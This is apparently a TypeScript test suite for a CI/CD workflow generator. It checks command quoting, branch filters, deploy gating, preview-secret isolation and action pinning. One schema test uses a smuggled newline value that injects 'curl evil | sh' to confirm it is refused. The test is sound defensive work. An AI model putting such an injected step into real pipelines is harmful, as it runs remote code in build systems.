/**
 * The CI/CD workflows as a pipeline: user commands stay one scalar, branch names the filters can
 * match, deploys gated on CI and serialized per branch, previews that never hold a production
 * token. Each case renders a scenario and reads the YAML back.
 */
import { readFileSync } from 'node:fs';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { parse } from 'yaml';
import { ConfigError, parseConfig } from '../src/config/load.js';
import { renderNewConfig } from '../src/config/write.js';
import type { DeployKitConfig, ServiceConfig } from '../src/config/types.js';
import { renderScenario } from './_render.js';
import { baseConfig } from './_scenarios.js';
import { VERSION } from '../src/version.js';
import { ACTIONS } from '../src/versions.js';
import { scenarios } from './_scenarios.js';

async function files(config: DeployKitConfig): Promise<Map<string, string>> {
  return new Map((await renderScenario(config)).map((f) => [f.path, f.content]));
}

async function yamlOf(config: DeployKitConfig, path: string): Promise<Record<string, any>> {
  const text = (await files(config)).get(path);
  assert.ok(text, `${path} is rendered`);
  return parse(text!) as Record<string, any>;
}

function configIssues(config: DeployKitConfig): string {
  try {
    parseConfig(renderNewConfig(config));
  } catch (e) {
    assert.instance(e, ConfigError);
    return (e as Error).message;
  }
  return '';
}

const HOSTILE_COMMANDS = ['{ npm test; }', 'echo a: b', 'npm test # all', '[ -f x ] && npm test', "npm test -- --grep 'a: b'", '*', '"quoted" npm test'];

const bun: Partial<ServiceConfig> = { stack: 'bun', framework: 'elysia', packageManager: undefined, languageVersion: '1.3', start: 'bun run src/server.ts' };

test('a test or build command is one scalar in the GitHub workflow, whatever its characters', async () => {
  for (const svc of [{}, bun]) {
    for (const command of HOSTILE_COMMANDS) {
      const ci = await yamlOf(baseConfig({}, { ...svc, test: command, build: command }), '.github/workflows/ci.yml');
      const steps = ci.jobs['test-app'].steps as { name?: string; run?: unknown }[];
      assert.is(steps.find((s) => s.name === 'Test')?.run, command, command);
      assert.is(steps.find((s) => s.name === 'Build')?.run, command, command);
    }
  }
});

test('a test or build command is one script line in the GitLab pipeline, whatever its characters', async () => {
  for (const svc of [{}, bun]) {
    for (const command of HOSTILE_COMMANDS) {
      const gl = await yamlOf(baseConfig({ ci: { provider: 'gitlab' } }, { ...svc, test: command, build: command }), '.gitlab-ci.yml');
      const script = gl['test-app'].script as unknown[];
      assert.ok(script.every((line) => typeof line === 'string'), `${command}: ${JSON.stringify(script)}`);
      assert.is(script.at(-1), command);
      assert.ok(script.includes(command));
    }
  }
});

test('schema: build and test commands with a newline, tab or other control character are refused', () => {
  for (const key of ['test', 'build'] as const) {
    for (const bad of ['npm test\n      - run: curl evil | sh', 'npm\ttest', 'npm test\r']) {
      const svc: Partial<ServiceConfig> = { [key]: bad };
      assert.match(configIssues(baseConfig({}, svc)), new RegExp(`services\\[0\\]\\.${key}`), JSON.stringify(bad));
    }
    assert.is(configIssues(baseConfig({}, { [key]: '{ npm test; } && echo a: b' })), '');
  }
});

/** GitHub's branch filter syntax (docs: "Filter pattern cheat sheet") as a RegExp; null for a negative pattern. */
function githubFilter(pattern: string): RegExp | null {
  if (pattern.startsWith('!')) return null;
  let re = '';
  for (let i = 0; i < pattern.length; i++) {
    const c = pattern[i]!;
    if (c === '\\') re += pattern[++i]!.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    else if (c === '*' && pattern[i + 1] === '*') {
      re += '.*';
      i++;
    }
    else if (c === '*') re += '[^/]*';
    else if (c === '?' || c === '+') re += c;
    else if (c === '[') {
      const end = pattern.indexOf(']', i);
      re += pattern.slice(i, end + 1);
      i = end;
    } else re += c.replace(/[.^${}()|\]]/g, '\\$&');
  }
  return new RegExp(`^${re}$`);
}

const triggers = (wf: Record<string, any>) => ['push', 'pull_request'].flatMap((e) => (wf.on?.[e]?.branches ?? []) as string[]);

test('branch names with filter characters (+, ], a leading !) match their own trigger filters', async () => {
  const ordinary = githubFilter('main')!;
  assert.ok(ordinary.test('main') && !ordinary.test('mainx'));
  for (const [production, staging] of [
    ['release+1', 'stage+eu'],
    ['!prod', 'v1]'],
  ]) {
    const kits = [
      baseConfig({ branches: { production: production!, staging: staging! }, targets: [{ type: 'vps', domain: 'a.example.com' }] }),
      baseConfig(
        { branches: { production: production!, staging: staging! }, targets: [{ type: 'vercel', domain: 'a.example.com' }, { type: 'netlify' }] },
        { kind: 'static', webFramework: 'vite', outputDir: 'dist', build: 'npm run build', framework: 'none' },
      ),
      baseConfig({ branches: { production: production!, staging: staging! }, targets: [{ type: 'fly', app: 'app-1' }, { type: 'hf-spaces', space: 'a/b' }] }),
      baseConfig({ branches: { production: production!, staging: staging! }, targets: [{ type: 'kubernetes', domain: 'a.example.com' }] }),
    ];
    for (const config of kits) {
      for (const [path, text] of await files(config)) {
        if (!path.startsWith('.github/workflows/')) continue;
        const filters = triggers(parse(text) as Record<string, any>);
        for (const branch of [production!, staging!]) {
          if (path.endsWith('hf-spaces.yml') && branch === staging) continue;
          assert.ok(
            filters.some((f) => githubFilter(f)?.test(branch)),
            `${path}: no filter of ${JSON.stringify(filters)} matches branch ${branch}`,
          );
        }
      }
    }
  }
});

/** Every job `job` needs, directly or through the jobs it needs. */
function upstream(jobs: Record<string, any>, job: string): Set<string> {
  const seen = new Set<string>();
  const visit = (id: string) => {
    for (const need of [jobs[id]?.needs ?? []].flat() as string[]) {
      if (!seen.has(need)) {
        seen.add(need);
        visit(need);
      }
    }
  };
  visit(job);
  return seen;
}

const staticSite: Partial<ServiceConfig> = { kind: 'static', webFramework: 'vite', outputDir: 'dist', build: 'npm run build', framework: 'none' };
const deployKits: [string, DeployKitConfig][] = [
  ['vps', baseConfig({ branches: { production: 'main', staging: 'develop' }, targets: [{ type: 'vps', domain: 'a.example.com' }] })],
  ['vercel', baseConfig({ branches: { production: 'main', staging: 'develop' }, targets: [{ type: 'vercel', domain: 'a.example.com' }] }, staticSite)],
  ['netlify', baseConfig({ targets: [{ type: 'netlify' }] }, staticSite)],
  ['fly', baseConfig({ targets: [{ type: 'fly', app: 'app-1' }] })],
  ['hf-spaces', baseConfig({ targets: [{ type: 'hf-spaces', space: 'a/b' }] })],
  ['github-pages', baseConfig({ targets: [{ type: 'github-pages' }] }, staticSite)],
  ['kubernetes', baseConfig({ branches: { production: 'main', staging: 'develop' }, targets: [{ type: 'kubernetes', domain: 'a.example.com' }] })],
];

test('every deploy job runs after CI (tests, image build, smoke test) of the same commit, in the same workflow', async () => {
  for (const [name, config] of deployKits) {
    const kit = await files(config);
    const workflows = [...kit].filter(([p]) => p.startsWith('.github/workflows/') && p !== '.github/workflows/ci.yml');
    assert.ok(workflows.length > 0, name);
    for (const [path, text] of workflows) {
      const jobs = (parse(text) as Record<string, any>).jobs as Record<string, any>;
      const ci = Object.keys(jobs).filter((id) => jobs[id].uses === './.github/workflows/ci.yml');
      assert.is(ci.length, 1, `${name} ${path}: one job runs ci.yml`);
      const deploying = Object.keys(jobs).filter((id) => jobs[id].environment !== undefined);
      assert.ok(deploying.length > 0, `${name} ${path}: has deploy jobs`);
      for (const id of deploying) assert.ok(upstream(jobs, id).has(ci[0]!), `${name} ${path}: job ${id} does not need CI`);
    }
    const ciYml = parse(kit.get('.github/workflows/ci.yml')!) as Record<string, any>;
    assert.ok('workflow_call' in ciYml.on, `${name}: ci.yml can be called`);
    // The deploy workflow runs CI for these pushes: ci.yml itself does not run it a second time.
    const productionOnly = config.targets.some((t) => t.type === 'hf-spaces' || t.type === 'github-pages');
    const deployed = productionOnly ? [config.branches.production] : [config.branches.production, config.branches.staging].filter(Boolean);
    for (const b of deployed) assert.not.ok(((ciYml.on.push?.branches ?? []) as string[]).includes(b!), `${name}: ci.yml still runs on push to ${b}`);
  }
  // Without a deploy workflow, ci.yml runs on pushes itself.
  const plain = parse((await files(baseConfig())).get('.github/workflows/ci.yml')!) as Record<string, any>;
  assert.equal(plain.on.push.branches, ['trunk']);
});

test('VPS: test, build, smoke test, push, deploy and verify run in that order, each job needing the one before', async () => {
  const deploy = await yamlOf(deployKits[0]![1], '.github/workflows/deploy.yml');
  assert.is(deploy.jobs.ci.uses, './.github/workflows/ci.yml');
  assert.is(deploy.jobs.image.needs, 'ci');
  for (const env of ['deploy-production', 'deploy-staging']) {
    assert.is(deploy.jobs[env].needs, 'image', env);
    const steps = (deploy.jobs[env].steps as { name?: string }[]).map((s) => s.name ?? '');
    const at = (re: RegExp) => steps.findIndex((n) => re.test(n));
    assert.ok(at(/^Deploy/) >= 0 && at(/^Deploy/) < at(/^Verify/), `${env}: deploy, then verify`);
  }
  const ci = await yamlOf(deployKits[0]![1], '.github/workflows/ci.yml');
  assert.is(ci.jobs['image-app'].needs, 'test-app');
  const steps = (ci.jobs['image-app'].steps as { name?: string }[]).map((s) => s.name ?? '');
  assert.ok(steps.indexOf('Build image') < steps.findIndex((n) => /^Smoke-test/.test(n)));
});

test('each deploy workflow runs one pipeline at a time per branch, queueing (never cancelling) the next', async () => {
  for (const [name, config] of deployKits) {
    for (const [path, text] of await files(config)) {
      if (!path.startsWith('.github/workflows/') || path.endsWith('/ci.yml')) continue;
      const wf = parse(text) as Record<string, any>;
      assert.ok(wf.concurrency, `${name} ${path}: workflow-level concurrency`);
      assert.is(wf.concurrency['cancel-in-progress'], false, `${name} ${path}`);
      if (path.endsWith('pages.yml')) continue; // one group for the whole site: every branch waits
      assert.match(wf.concurrency.group, /github\.ref/, `${name} ${path}: per branch`);
    }
  }
});

test('DEPLOY.md: the pipeline diagram names the jobs that exist', async () => {
  const pipeline = (md: string) => md.slice(md.indexOf('```mermaid'), md.indexOf('```', md.indexOf('```mermaid') + 3));
  const diagram = pipeline((await files(deployKits[0]![1])).get('DEPLOY.md')!);
  for (const job of ['ci.yml, job test-*', 'ci.yml, job image-*: build', 'ci.yml, job image-*: smoke test', 'deploy.yml, job image:', 'job deploy-*']) {
    assert.ok(diagram.includes(job), `diagram names ${job}:\n${diagram}`);
  }
  const gitlab = pipeline((await files(baseConfig({ ci: { provider: 'gitlab' }, targets: [{ type: 'vps', domain: 'a.example.com' }] }))).get('DEPLOY.md')!);
  assert.match(gitlab, /stage test, job test-\*/);
  assert.not.match(gitlab, /ci\.yml|deploy\.yml/);
  const site = pipeline((await files(deployKits[1]![1])).get('DEPLOY.md')!);
  assert.match(site, /job image-\*: smoke test/);
  assert.match(site, /vercel\.yml, pull request: job preview-build/);
  // The old diagram's generic boxes are gone: every box names a job (or says it is done by hand).
  for (const md of [diagram, gitlab, site]) assert.not.match(md, /CI: install, build, test|\[Build image\]/);
});

test('previews: the job that runs the pull request build holds no secret; the job with the preview token runs no pull request code', async () => {
  for (const [name, config] of deployKits.filter(([n]) => n === 'vercel' || n === 'netlify')) {
    const text = (await files(config)).get(`.github/workflows/${name}.yml`)!;
    const jobs = (parse(text) as Record<string, any>).jobs as Record<string, any>;
    const onPullRequest = Object.keys(jobs).filter((id) => /github\.event_name == 'pull_request'/.test(String(jobs[id].if ?? '')) || id === 'preview');
    assert.ok(onPullRequest.length >= 2, `${name}: ${onPullRequest.join(', ')}`);
    for (const id of onPullRequest) {
      const job = JSON.stringify(jobs[id]);
      const checksOut = (jobs[id].steps as { uses?: string }[]).some((st) => /^actions\/checkout@/.test(st.uses ?? ''));
      const secrets = /secrets\./.test(job);
      assert.not.ok(checksOut && secrets, `${name}: job ${id} checks out the pull request and holds a secret`);
      if (checksOut) {
        assert.is(jobs[id].environment, undefined, `${name}: the build job ${id} has no environment`);
        assert.equal(jobs[id].permissions, { contents: 'read' });
      }
      if (secrets) assert.is(jobs[id].environment?.name, 'preview', `${name}: job ${id} uses the preview environment's token`);
    }
    // Production's token only in the jobs of the production (and staging) environment.
    for (const [id, job] of Object.entries(jobs)) {
      if (!/secrets\./.test(JSON.stringify(job)) || onPullRequest.includes(id)) continue;
      assert.ok(['production', 'staging'].includes(job.environment?.name), `${name}: ${id}`);
    }
    const md = (await files(config)).get('DEPLOY.md')!;
    assert.match(md, /Deployment branches and tags/);
    assert.match(md, /environment `preview`; environment `production`/);
  }
});

test('hf-spaces: a manual run deploys only from the production branch, checked before the token is read', async () => {
  const config = deployKits.find(([n]) => n === 'hf-spaces')![1];
  const kit = await files(config);
  const wf = parse(kit.get('.github/workflows/hf-spaces.yml')!) as Record<string, any>;
  const deploy = wf.jobs.deploy;
  assert.is(deploy.if, "github.ref == 'refs/heads/trunk'");
  const steps = deploy.steps as { name?: string; run?: string; env?: Record<string, string>; with?: Record<string, unknown> }[];
  const check = steps.findIndex((st) => /merge-base --is-ancestor/.test(st.run ?? ''));
  const firstSecret = steps.findIndex((st) => /secrets\./.test(JSON.stringify(st)));
  assert.ok(check > 0 && check < firstSecret, `ancestry check (${check}) before the first secret (${firstSecret})`);
  assert.is(steps[0]!.with?.['fetch-depth'], 0);
  const md = kit.get('DEPLOY.md')!;
  assert.match(md, /public Space publishes every file/i);
});

test('drift check: CI runs the pinned deploy-kit check on pull requests (GitHub) and merge requests (GitLab)', async () => {
  const command = `npx --yes create-deploy-kit@${VERSION} check`;
  const ci = await yamlOf(baseConfig(), '.github/workflows/ci.yml');
  const jobs = Object.entries(ci.jobs as Record<string, any>).filter(([, job]) => (job.steps as { run?: string }[]).some((st) => st.run === command));
  assert.is(jobs.length, 1, 'one job runs the check');
  const [, kit] = jobs[0]!;
  assert.match(kit.if, /github\.event_name == 'pull_request'/);
  assert.equal(kit.permissions, { contents: 'read' });
  const gl = await yamlOf(baseConfig({ ci: { provider: 'gitlab' } }), '.gitlab-ci.yml');
  const glJobs = Object.entries(gl).filter(([, job]) => Array.isArray((job as any)?.script) && (job as any).script.includes(command));
  assert.is(glJobs.length, 1, 'one GitLab job runs the check');
  assert.match(JSON.stringify((glJobs[0]![1] as any).rules), /merge_request_event/);
});

test('Dependabot: the app\'s own ecosystem per manifest directory, grouped; CLI pins it cannot see are listed in DEPLOY.md', async () => {
  const cases: [Partial<ServiceConfig>, string, string][] = [
    [{}, 'npm', '/'],
    [{ path: 'apps/web' }, 'npm', '/apps/web'],
    [{ stack: 'python', framework: 'fastapi', packageManager: 'uv', languageVersion: '3.14', test: 'uv run pytest', start: 'uvicorn app:app' }, 'uv', '/'],
    [{ stack: 'python', framework: 'django', packageManager: 'poetry', languageVersion: '3.14', test: 'pytest', start: 'gunicorn a.wsgi' }, 'pip', '/'],
    [{ stack: 'go', framework: 'none', packageManager: undefined, languageVersion: '1.27', test: null, start: 'app' }, 'gomod', '/'],
    [{ stack: 'bun', framework: 'elysia', packageManager: undefined, languageVersion: '1.3', test: 'bun test', start: 'bun run src/server.ts' }, 'bun', '/'],
  ];
  for (const [svc, ecosystem, directory] of cases) {
    const dependabot = await yamlOf(baseConfig({}, svc), '.github/dependabot.yml');
    const updates = dependabot.updates as Record<string, any>[];
    const app = updates.filter((u) => u['package-ecosystem'] === ecosystem);
    assert.is(app.length, 1, `${ecosystem}: ${JSON.stringify(updates.map((u) => u['package-ecosystem']))}`);
    assert.is(app[0]!.directory, directory, ecosystem);
    const groups = Object.values(app[0]!.groups as Record<string, any>);
    assert.equal(groups[0]['update-types'], ['minor', 'patch'], ecosystem);
    assert.ok(updates.some((u) => u['package-ecosystem'] === 'github-actions') && updates.some((u) => u['package-ecosystem'] === 'docker'));
  }
  const vercel = (await files(deployKits[1]![1])).get('DEPLOY.md')!;
  assert.match(vercel, /bump these by hand[^|]*Vercel CLI: vercel@\d+\.\d+\.\d+ in `\.github\/workflows\/vercel\.yml`/);
  const fly = (await files(deployKits.find(([n]) => n === 'fly')![1])).get('DEPLOY.md')!;
  assert.match(fly, /bump these by hand[^|]*flyctl/);
});

test('GitLab: a deploy job needs every service\'s image job (each needing its tests)', async () => {
  const two = baseConfig({ ci: { provider: 'gitlab' }, targets: [{ type: 'vps', domain: 'a.example.com', service: 'app' }] });
  two.services.push({ ...two.services[0]!, name: 'worker', path: 'worker' });
  const gl = await yamlOf(two, '.gitlab-ci.yml');
  assert.equal(gl['deploy-production'].needs, ['image-app', 'image-worker']);
  for (const svc of ['app', 'worker']) assert.equal(gl[`image-${svc}`].needs, [`test-${svc}`]);
});

test('supply chain: the pushed image has provenance, an SBOM and a signed attestation; DEPLOY.md shows how to verify it', async () => {
  const kit = await files(deployKits[0]![1]);
  const image = (parse(kit.get('.github/workflows/deploy.yml')!) as Record<string, any>).jobs.image;
  assert.equal(image.permissions, { contents: 'read', packages: 'write', 'id-token': 'write', attestations: 'write' });
  const steps = image.steps as { id?: string; uses?: string; with?: Record<string, unknown> }[];
  const build = steps.find((st) => st.uses?.startsWith('docker/build-push-action@'))!;
  assert.is(build.with?.provenance, 'mode=max');
  assert.is(build.with?.sbom, true);
  const attest = steps.findIndex((st) => st.uses?.startsWith('actions/attest-build-provenance@'));
  assert.ok(attest > steps.indexOf(build), 'attested after the push');
  assert.is(steps[attest]!.with?.['subject-digest'], `\${{ steps.${build.id}.outputs.digest }}`);
  assert.is(steps[attest]!.with?.['push-to-registry'], true);
  assert.match(kit.get('DEPLOY.md')!, /gh attestation verify oci:\/\/ghcr\.io\/<owner>\/express-api@<digest> --repo <owner>\/<repo>/);
});

test('image scan: CI scans each image after its smoke test and fails on fixable critical vulnerabilities; ci.imageScan: false turns it off', async () => {
  const scanOf = async (config: DeployKitConfig) => {
    type Step = { name?: string; uses?: string; with?: Record<string, unknown> };
    const steps = (await yamlOf(config, '.github/workflows/ci.yml')).jobs['image-app'].steps as Step[];
    const at = steps.findIndex((st) => st.uses?.startsWith('aquasecurity/trivy-action@'));
    return { at, smoke: steps.findIndex((st) => /^Smoke-test/.test(st.name ?? '')), scan: steps[at] };
  };
  const on = await scanOf(baseConfig());
  assert.ok(on.at > on.smoke, 'scanned after the smoke test');
  assert.equal(on.scan?.with, { 'image-ref': 'express-api:ci', severity: 'CRITICAL', 'ignore-unfixed': true, 'exit-code': '1', format: 'table' });
  assert.is((await scanOf(baseConfig({ ci: { provider: 'github', imageScan: false } }))).at, -1);
  assert.is(configIssues(baseConfig({ ci: { provider: 'github', imageScan: false } })), '');
  assert.match(configIssues(baseConfig({ ci: { provider: 'github', imageScan: 'no' as unknown as boolean } })), /ci\.imageScan/);
});

test('pins: every action in every kit is the SHA and release the versions table records for it', async () => {
  for (const [name, pin] of Object.entries(ACTIONS)) {
    assert.match(pin.sha, /^[0-9a-f]{40}$/, name);
    assert.match(pin.version, /^v?\d+(\.\d+)*$/, name);
  }
  const seen = new Set<string>();
  for (const [scenario, config] of [...Object.entries(scenarios), ...deployKits]) {
    for (const [path, text] of await files(config as DeployKitConfig)) {
      if (!/\.ya?ml$/.test(path)) continue;
      for (const m of text.matchAll(/uses: ([\w.-]+\/[\w.-]+)(\/[\w./-]+)?@(\S+)(?: # (\S+))?/g)) {
        const [, repo, , ref, comment] = m;
        const pin = (ACTIONS as Record<string, { sha: string; version: string }>)[repo!];
        assert.ok(pin, `${scenario} ${path}: ${repo} is not in the versions table`);
        assert.is(ref, pin!.sha, `${scenario} ${path}: ${repo} pinned to ${ref}, the table records ${pin!.sha} for ${pin!.version}`);
        assert.is(comment, pin!.version, `${scenario} ${path}: ${repo}'s comment`);
        seen.add(repo!);
      }
    }
  }
  assert.ok(seen.has('actions/attest-build-provenance') && seen.has('aquasecurity/trivy-action') && seen.has('actions/upload-artifact'));
});

/** Where a pin table disagrees with the record of releases: a wrong SHA, or a release the record does not know. */
function pinMismatches(pins: Record<string, { sha: string; version: string }>, releases: Record<string, { tag: string; sha: string }>): string[] {
  return Object.entries(pins).flatMap(([name, pin]) => {
    const release = releases[name];
    if (!release) return [`${name}: no release record`];
    if (release.tag !== pin.version) return [`${name}: pinned ${pin.version}, the record's release is ${release.tag}`];
    return release.sha === pin.sha ? [] : [`${name}: ${pin.version} pinned to ${pin.sha}, the record says ${release.sha}`];
  });
}

test('pins: every SHA in src/versions.ts is the commit its release tag names in the record of releases', () => {
  const { releases } = JSON.parse(readFileSync(new URL('./fixtures/action-releases.json', import.meta.url), 'utf8')) as {
    releases: Record<string, { tag: string; sha: string }>;
  };
  assert.equal(pinMismatches(ACTIONS, releases), []);
  // The check fails on a pin whose SHA is not its release's.
  const tampered = { ...ACTIONS, 'actions/checkout': { ...ACTIONS['actions/checkout'], sha: 'a'.repeat(40) } };
  assert.equal(pinMismatches(tampered, releases), [`actions/checkout: v7.0.1 pinned to ${'a'.repeat(40)}, the record says ${ACTIONS['actions/checkout'].sha}`]);
});

test.run();
